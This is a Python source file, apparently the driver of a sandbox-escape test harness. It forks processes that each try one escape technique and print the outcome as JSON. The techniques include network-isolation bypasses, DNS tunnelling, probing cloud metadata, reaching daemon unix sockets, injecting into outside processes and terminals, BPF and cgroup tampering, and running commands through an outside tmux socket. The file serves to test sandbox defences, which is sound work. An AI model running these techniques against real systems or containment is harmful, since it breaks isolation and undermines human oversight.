"""One hostile program: `adversary.py MODE JSON` tries every technique it knows, and prints a line of JSON for each.

MODE: `plain`; `root`, as uid 0 of a user namespace that it makes; `network`, with a network namespace as well.
JSON: addresses and ports that it wants to reach, unix sockets of daemons, processes outside. Each technique runs in a
process of its own, several at a time, and whatever becomes of one, the next is tried. Standard library only.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import traceback
from typing import TYPE_CHECKING, Any

from attacks import base, datagrams, kinds, nested, processes, requests, streams, unix

if TYPE_CHECKING:
    from collections.abc import Callable

AT_ONCE = 6


def techniques(aim: dict[str, Any]) -> dict[str, Callable[[], Any]]:
    """All of them, by name."""
    v4, v6, tcp, udp, dns = aim["v4"], aim["v6"], aim["tcp"], aim["udp"], aim["dns"]
    query = aim["query"]
    found: dict[str, Callable[[], Any]] = {"tmux": lambda: _tmux(aim["tmux"], aim["canary"])}
    for way in (
        streams.plain, streams.bound, streams.nonblocking, streams.fastopen_sendto, streams.fastopen_sendmsg,
        streams.fastopen_connect, streams.multipath, streams.multipath_fastopen, streams.after_disconnect,
        streams.zero_copied, streams.repaired,
    ):  # fmt: skip
        for address in (v4, v6):
            found[f"tcp {way.__name__} {address}"] = lambda way=way, address=address: way(address, tcp)
    found |= {
        "tcp mapped": lambda: streams.mapped(v4, tcp),
        "tcp changing address": lambda: streams.while_it_changes(aim["permitted"], v4, tcp, 40),
        "tcp storm of threads": lambda: streams.from_a_thread_storm(v4, tcp, 8),
        "tcp source route": lambda: streams.source_routed(v4, tcp, aim["permitted"]),
        "tcp routing header": lambda: streams.routed_v6(v6, tcp, v6),
        "tcp free bind": lambda: streams.freely_bound(v4, tcp, aim["machine"]),
        "tcp device": lambda: streams.to_a_device(v4, tcp, "mach0"),
        "tcp smc": lambda: streams.upper_layer(v4, tcp, "smc"),
        "tcp through a listener": lambda: streams.through_a_listener(v4, tcp),
        "tcp simultaneous open": lambda: streams.self_connected(v4, tcp),
        "tcp metadata": lambda: streams.each_address(
            [aim["metadata"], f"::ffff:{aim['metadata']}", "64:ff9b::a9fe:a9fe"], 80
        ),
        "tcp own machine": lambda: streams.each_address([aim["machine"], "127.0.0.1", "::1", "0.0.0.0"], 80),
        "udp": lambda: [datagrams.ways(address, udp) for address in (v4, v6)],
        "udp sendmmsg": lambda: datagrams.sendmmsg(v4, udp),
        "udp unspec": lambda: datagrams.family_unspec(v4, udp),
        "udp mapped": lambda: datagrams.mapped(v4, udp),
        "udp control data": lambda: datagrams.with_control(v4, udp, aim["machine"]),
        "udp corked": lambda: datagrams.corked(v4, udp),
        "udp when connected": lambda: datagrams.elsewhere_when_connected(v4, udp),
        "udp groups": lambda: datagrams.to_groups(udp),
        "udp quic": lambda: [datagrams.ways(address, 443) for address in (v4, v6)],
        "dns tunnel": lambda: [
            datagrams.ask(server, 53, query, over) for server in (dns, "9.9.9.9") for over in ("udp", "tcp")
        ],
        "http connect": lambda: requests.to_proxy(
            [[f"CONNECT {v4}:{tcp} HTTP/1.1\r\nHost: x\r\n{base.AUTHORIZED}\r\n", "s3cret"]]
        ),
        "http host": lambda: requests.to_server(v4, 80, [["GET / HTTP/1.0\r\nHost: other.example.net\r\n\r\n"]]),
        "tls server name": lambda: requests.over_tls(v4, 443, "other.example.net", "GET / HTTP/1.0\r\n\r\n"),
        "socket families": lambda: kinds.every_family(64),
        "socket pairs": lambda: kinds.pairs(list(range(64))),
        "socket wide arguments": lambda: kinds.wide_families(
            {"packet": [17, 3, 0x300], "vsock": [40, 1, 0], "raw": [2, 3, 255]}
        ),
        "ping": lambda: kinds.ping(v4),
        "raw": lambda: kinds.raw(v4),
        "packet": lambda: kinds.packet("lo"),
        "netlink": kinds.other_netlink,
        "route changes": kinds.route_changes,
        "x32": kinds.x32,
        "i386": kinds.i386,
        "devices": kinds.devices,
        "tun": lambda: kinds.tun("nono3"),
        "processes outside": lambda: processes.on_pids(aim["pids"]),
        "pid 1": lambda: processes.on_pids([1]),
        "namespaces": processes.namespaces,
        "namespace of a socket": processes.namespaces_of_the_network,
        "kernel interfaces": processes.kernel_interfaces,
        "bpf pins": processes.pins,
        "bpf detach": lambda: processes.bpf_with_programs([0, 1, 2], aim["cgroups"]),
        "cgroup migration": lambda: processes.migrate(aim["cgroups"]),
        "kernel files": processes.privileged_files,
        "identity": processes.identity,
        "terminals": processes.inject,
        "shared memory": lambda: processes.shared_memory("nono"),
        "descriptors": processes.own_descriptors,
        "unix sockets": lambda: unix.reach_all(aim["sockets"]),
        "unix roundabout": lambda: [unix.roundabout(path) for path in aim["sockets"] if not path.startswith("@")],
        "unix sendto": lambda: [base.told(unix.sendto, path) for path in aim["sockets"]],
        "unix uncovered": lambda: [unix.rooted(path) for path in aim["sockets"] if not path.startswith("@")],
        "unix known daemons": unix.known_places,
        "unix credentials": unix.credentials,
        "nested network": lambda: nested.with_network(v4, tcp),
        "nested root": lambda: nested.without_network(v4, tcp),
        "nested mounts": nested.mounted,
        "nested processes": nested.processes,
    }
    return found


def _tmux(path: str, canary: str) -> str:
    """Have a terminal multiplexer outside do the work."""
    command = ["tmux", "-S", path, "run-shell", f"touch {canary}-tmux"]
    try:
        done = subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True, check=False, timeout=20)
    except FileNotFoundError:
        return "no tmux"
    except subprocess.TimeoutExpired:
        return "no answer"
    return f"{done.returncode} {done.stderr.decode().strip()}"


def _try(name: str, technique: Callable[[], Any], patience_s: int) -> None:
    """In this process: one line, whatever happens."""
    signal.alarm(patience_s)
    try:
        outcome = technique()
    except OSError as error:
        outcome = base.name_of(error.errno) if error.errno else type(error).__name__
    except BaseException:  # noqa: BLE001  # what an attack makes of itself is its outcome
        outcome = traceback.format_exc()
    _say({"name": name, "outcome": outcome})


def _say(line: dict[str, Any]) -> None:
    os.write(1, (json.dumps(line) + "\n").encode())


def _reap(running: dict[int, str]) -> None:
    pid, status = os.wait()
    name = running.pop(pid, None)
    if name is not None and status != 0:
        _say({"name": name, "outcome": f"ended {os.waitstatus_to_exitcode(status)}"})


def main() -> None:
    mode, aim = sys.argv[1], json.loads(sys.argv[2])
    base.PATIENCE_S = min(base.PATIENCE_S, 5 + aim["patience_s"] // 10)
    if mode != "plain":
        outcome = unix.become_root(*([nested.CLONE_NEWNET] if mode == "network" else []))
        _say({"name": "user namespace", "outcome": outcome, "uid": os.getuid()})
    running: dict[int, str] = {}
    for name, technique in techniques(aim).items():
        if len(running) >= AT_ONCE:
            _reap(running)
        pid = os.fork()
        if pid == 0:
            _try(name, technique, aim["patience_s"])
            os._exit(0)
        running[pid] = name
    while running:
        _reap(running)
    _say({"name": "the end", "outcome": "done"})


if __name__ == "__main__":
    main()
